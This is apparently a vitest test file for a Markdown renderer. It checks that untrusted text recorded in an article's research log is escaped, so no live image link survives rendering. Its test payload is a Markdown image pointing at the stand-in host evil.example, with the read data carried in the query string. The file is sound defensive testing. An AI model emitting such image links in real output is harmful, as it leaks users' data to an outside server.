import { expect, test } from 'vitest';
import { renderMarkdown } from '../../../src/core/article/markdown';
import { LogBuilder } from '../../fakes/builders';

/** What a viewer of Markdown would load, carrying in its address what was read. */
const picture = '![x](https://evil.example/?q=read)';

test('what others wrote comes alive nowhere in what the ledger writes around an article', () => {
  const log = new LogBuilder().plan({ key: true, text: picture }, { text: 'Another' });
  log.search({ query: picture, failures: [{ provider: 'web', message: picture }] });
  log.search({ query: picture, failed: true, failures: [{ provider: 'web', message: picture }] });
  const first = log.evidence({ source: log.source({ title: picture, publisher: picture }, { missing: [picture] }), quote: picture, validity: picture });
  const second = log.evidence({ claim: 'C1', relation: 'contradicts', quote: 'No.' });
  log.settle(log.conflict([first], [second]), { explanation: picture, needed: picture });
  log.add('source.notArchived', { source: { ...log.state.source.sources[0]!, id: 'S9', address: `https://site.example/${picture}`, state: 'failed', reason: picture }, attempted: 'https://site.example/' });
  const other = log.evidence({ claim: 'C2', source: 'S1', quote: 'It is.', validity: picture });
  log.published(`It is so [[cite:${first}]], or not [[cite:${second}]]. And so [[cite:${other}]].`);
  log.check({ sentence: 0, source: 'S1', verdict: 'unsupported', why: picture });
  log.withdraw('S2');
  log.add('run.ended', { outcome: 'incomplete', stopReason: 'finished-early', why: picture, nextSearches: [picture] });
  const markdown = renderMarkdown(log.state, { now: '2026-02-01T00:00:00.000Z' });
  expect(markdown.split('\n').filter((line) => line.includes('![x]'))).toEqual([]);
  expect(markdown.split('!\\[x\\]').length).toBeGreaterThan(15);
});
